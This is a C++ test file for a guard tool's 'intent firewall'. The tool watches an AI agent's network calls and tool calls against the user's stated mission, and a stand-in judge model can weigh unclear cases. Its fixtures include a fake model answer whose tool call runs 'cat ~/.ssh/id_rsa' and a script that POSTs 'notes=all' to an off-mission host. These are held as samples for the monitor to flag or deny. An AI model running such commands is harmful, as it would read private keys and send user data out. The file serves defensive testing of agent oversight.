// faultctl guard --intent-firewall end to end: the real faultctl (as nobody
// when root) runs curl and python through its proxy. An OpenAI chat call to a
// stand-in model whose user turn (the mission) names one loopback upstream
// and whose answer decides a tool call reading an SSH key; then a read of the
// mission's host (serves), a python POST to another upstream (off-mission),
// and a GET there (unclear: the judge's, when one is configured). Monitor
// flags; --enforce --intent-action deny stops the POST with a 403; a stand-in
// judge (Anthropic Messages shape) flags the unclear GET, and a judge that
// fails is failed open; bad flags exit 2.
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <atomic>
#include <mutex>
#include <nlohmann/json.hpp>

#include "selftests/guard/guard_env.h"
#include "selftests/lib/child_process.h"
#include "selftests/proxy/proxy_fixture.h"
#include "selftests/tls/tls_harness.h"

namespace {

using fltest::CommandResult;
using fltest::UniqueFd;
using Json = nlohmann::json;
using namespace std::chrono_literals;

const std::string kIntentFaultctl = FAULTCTL_PATH;

// Answers every request with `status` and `body` (JSON), keeping each request.
class IntentUpstream {
 public:
  explicit IntentUpstream(std::string body, int status = 200)
      : body_(std::move(body)), status_(status), server_([this](UniqueFd fd) {
          auto read = fltest::read_one_request(fd.get());
          if (!read) return;
          {
            std::lock_guard lock(mu_);
            seen_.push_back(*read);
          }
          const std::string resp =
              "HTTP/1.1 " + std::to_string(status_) +
              " X\r\nContent-Type: application/json\r\nContent-Length: " + std::to_string(body_.size()) +
              "\r\nConnection: close\r\n\r\n" + body_;
          (void)::send(fd.get(), resp.data(), resp.size(), MSG_NOSIGNAL);
        }) {}
  [[nodiscard]] std::string base() const { return "http://127.0.0.1:" + std::to_string(server_.port()); }
  [[nodiscard]] std::vector<std::string> seen() {
    std::lock_guard lock(mu_);
    return seen_;
  }

 private:
  std::string body_;
  int status_;
  std::mutex mu_;
  std::vector<std::string> seen_;
  fltest::ScriptServer server_;
};

const std::string kModelAnswer =
    R"({"id":"c1","object":"chat.completion","model":"gpt-test","choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":"bash","arguments":"{\"command\":\"cat ~/.ssh/id_rsa\"}"}}]},"finish_reason":"tool_calls"}],"usage":{"prompt_tokens":20,"completion_tokens":5,"total_tokens":25}})";
const std::string kJudgeSaysOff =
    R"({"id":"m1","type":"message","role":"assistant","content":[{"type":"text","text":"{\"verdict\":\"off-mission\",\"reason\":\"the page is not the notes\"}"}]})";

class GuardIntentTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_EQ(::chmod(dir_.path().c_str(), 0777), 0);
    env_ = fltest::guard_env(dir_.path(), {"FAULTLINE_INTENT_JUDGE_KEY=test-judge-key"});
  }

  CommandResult run(std::vector<std::string> flags) {
    const Json call = {
        {"model", "gpt-test"},
        {"messages",
         {{{"role", "system"}, {"content", "You are a helpful agent."}},
          {{"role", "user"}, {"content", "Summarise my notes at " + notes_.base() + "/notes please."}}}}};
    fltest::write_file(dir_.file("call.json"), call.dump());
    EXPECT_EQ(::chmod(dir_.file("call.json").c_str(), 0644), 0);
    const std::string c = "curl -sS -o /dev/null -w '%{http_code}\\n' --max-time 20 ";
    const std::string py =
        "python3 -c \"import sys, urllib.request as u, urllib.error as e\n"
        "try: print(u.urlopen(u.Request(sys.argv[1], data=b'notes=all'), timeout=20).status)\n"
        "except e.HTTPError as x: print(x.code)\" ";
    const std::string script = c + "-H 'Content-Type: application/json' --data-binary @" + dir_.file("call.json") +
                               " " + model_.base() + "/v1/chat/completions; " + c + notes_.base() + "/notes; " + py +
                               other_.base() + "/collect; " + c + other_.base() + "/page; sleep 1";
    std::vector<std::string> argv = {kIntentFaultctl, "guard"};
    argv.insert(argv.end(), flags.begin(), flags.end());
    argv.insert(argv.end(), {"--json-log", dir_.file("activity.jsonl"), "--", "sh", "-c", script});
    return fltest::run_command(fltest::as_nobody(std::move(argv)), {.env = env_}, 90s);
  }
  std::vector<Json> findings() { return fltest::activity_of_kind(dir_.file("activity.jsonl"), "off-mission-action"); }
  static const Json* find(const std::vector<Json>& lines, const std::string& method, const std::string& path_part) {
    for (const Json& l : lines)
      if (l.value("method", "") == method && l.value("path", "").find(path_part) != std::string::npos) return &l;
    return nullptr;
  }
  size_t posts_to_other() {
    size_t n = 0;
    for (const std::string& r : other_.seen()) n += r.rfind("POST ", 0) == 0;
    return n;
  }

  fltest::TempDir dir_;
  std::vector<std::string> env_;
  IntentUpstream model_{kModelAnswer}, notes_{"{}"}, other_{"{}"};
};

TEST_F(GuardIntentTest, MonitorFlagsTheOffMissionWriteAndToolCallAndStopsNothing) {
  auto r = run({"--intent-firewall"});
  ASSERT_TRUE(r.status.is(0)) << r.describe();
  EXPECT_EQ(r.out, "200\n200\n200\n200\n") << r.err;
  EXPECT_EQ(posts_to_other(), 1u);
  const auto lines = findings();
  ASSERT_EQ(lines.size(), 2u) << r.err;
  const Json* post = find(lines, "POST", "/collect");
  ASSERT_NE(post, nullptr) << r.err;
  EXPECT_EQ(post->value("verdict", ""), "allow");
  EXPECT_EQ(post->value("rule", ""), "intent-firewall");
  const Json* tool = find(lines, "TOOL", ".ssh/id_rsa");
  ASSERT_NE(tool, nullptr) << r.err;
  EXPECT_EQ(tool->value("rule", ""), "intent-firewall");
  EXPECT_NE(r.err.find("intent-firewall: the mission (the first user turn): 'Summarise my notes at"), std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find("/collect -> off-mission-action: a write (POST) to 127.0.0.1:"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("(flagged, not stopped)"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("-> off-mission-action: it reaches an SSH key (.ssh/)"), std::string::npos) << r.err;
  EXPECT_EQ(find(lines, "GET", "/notes"), nullptr);  // the mission's host serves it
}

TEST_F(GuardIntentTest, EnforceWithIntentActionDenyStopsTheOffMissionWrite) {
  auto r = run({"--enforce", "--intent-firewall", "--intent-action", "deny"});
  ASSERT_TRUE(r.status.is(0)) << r.describe();
  EXPECT_EQ(r.out, "200\n200\n403\n200\n") << r.err;
  EXPECT_EQ(posts_to_other(), 0u);
  const auto lines = findings();
  const Json* post = find(lines, "POST", "/collect");
  ASSERT_NE(post, nullptr) << r.err;
  EXPECT_EQ(post->value("verdict", ""), "deny");
  EXPECT_NE(r.err.find("(--intent-action deny: denied)"), std::string::npos) << r.err;
  const auto denials = fltest::activity_of_kind(dir_.file("activity.jsonl"), "request");
  EXPECT_TRUE(std::any_of(denials.begin(), denials.end(), [](const Json& l) {
    return l.value("rule", "") == "intent-firewall" && l.value("verdict", "") == "deny";
  }));
}

TEST_F(GuardIntentTest, WithoutEnforceIntentActionDenyOnlySaysWhatItWould) {
  auto r = run({"--intent-firewall", "--intent-action", "deny"});
  ASSERT_TRUE(r.status.is(0)) << r.describe();
  EXPECT_EQ(r.out, "200\n200\n200\n200\n") << r.err;
  EXPECT_NE(r.err.find("(monitor: would deny; not stopped)"), std::string::npos) << r.err;
}

TEST_F(GuardIntentTest, TheJudgeModelIsAskedAboutTheUnclearReadAndFlagsIt) {
  IntentUpstream judge(kJudgeSaysOff);
  auto r = run(
      {"--intent-firewall", "--intent-judge-url", judge.base() + "/v1/messages", "--intent-judge-model", "judge-test"});
  ASSERT_TRUE(r.status.is(0)) << r.describe();
  EXPECT_EQ(r.out, "200\n200\n200\n200\n") << r.err;
  const auto lines = findings();
  const Json* page = find(lines, "GET", "/page");
  ASSERT_NE(page, nullptr) << r.err;
  EXPECT_EQ(page->value("verdict", ""), "allow");
  EXPECT_NE(r.err.find("off-mission-action: the judge model says: the page is not the notes (after the fact"),
            std::string::npos)
      << r.err;
  // Asked once, about the unclear read only, with the mission and its key.
  const auto asked = judge.seen();
  ASSERT_EQ(asked.size(), 1u) << r.err;
  EXPECT_NE(asked[0].find("x-api-key: test-judge-key"), std::string::npos) << asked[0];
  EXPECT_NE(asked[0].find("Summarise my notes at"), std::string::npos) << asked[0];
  EXPECT_NE(asked[0].find("/page"), std::string::npos) << asked[0];
}

TEST_F(GuardIntentTest, AJudgeThatFailsIsFailedOpen) {
  IntentUpstream judge(R"({"error":"overloaded"})", 529);
  auto r = run(
      {"--intent-firewall", "--intent-judge-url", judge.base() + "/v1/messages", "--intent-judge-model", "judge-test"});
  ASSERT_TRUE(r.status.is(0)) << r.describe();
  EXPECT_EQ(r.out, "200\n200\n200\n200\n") << r.err;
  EXPECT_EQ(find(findings(), "GET", "/page"), nullptr) << r.err;
  EXPECT_NE(r.err.find("the judge gave no verdict on GET 127.0.0.1:"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("the judge answered HTTP 529 (failing open: not flagged)"), std::string::npos) << r.err;
}

TEST_F(GuardIntentTest, WithoutTheFlagNothingIsFlagged) {
  auto r = run({"--enforce"});
  ASSERT_TRUE(r.status.is(0)) << r.describe();
  EXPECT_TRUE(findings().empty());
  EXPECT_EQ(r.err.find("off-mission"), std::string::npos) << r.err;
}

TEST_F(GuardIntentTest, BadFlagsExitTwoNamingTheFlag) {
  const std::vector<std::pair<std::vector<std::string>, std::string>> cases = {
      {{"--intent-action", "deny"}, "--intent-action applies to --intent-firewall"},
      {{"--intent-firewall", "--intent-action", "block"}, "--intent-action 'block': deny, approve or monitor"},
      {{"--intent-firewall", "--intent-judge-url", "http://127.0.0.1:9/v1/messages"},
       "--intent-judge-url and --intent-judge-model go together"},
      {{"--intent-firewall", "--intent-judge-url", "http://127.0.0.1:9/v1/embeddings", "--intent-judge-model", "m"},
       "its path must end in /v1/messages (Anthropic) or /chat/completions (OpenAI)"},
      {{"--intent-firewall", "--intent-judge-url", "http://127.0.0.1:9/v1/messages", "--intent-judge-model", "m",
        "--intent-judge-key-env", "FAULTLINE_NO_SUCH_KEY"},
       "FAULTLINE_NO_SUCH_KEY is unset or empty"},
      {{"--intent-firewall", "--intent-judge-url", "http://127.0.0.1:9/v1/messages", "--intent-judge-model", "m",
        "--intent-judge-timeout", "5m"},
       "--intent-judge-timeout 5m: between 100ms and 120s"},
  };
  for (const auto& [flags, want] : cases) {
    std::vector<std::string> argv = {kIntentFaultctl, "guard"};
    argv.insert(argv.end(), flags.begin(), flags.end());
    argv.insert(argv.end(), {"--", "true"});
    auto r = fltest::run_command(std::move(argv), {.env = env_}, 30s);
    EXPECT_TRUE(r.status.is(2)) << r.describe();
    EXPECT_NE(r.err.find(want), std::string::npos) << r.err;
  }
}

}  // namespace
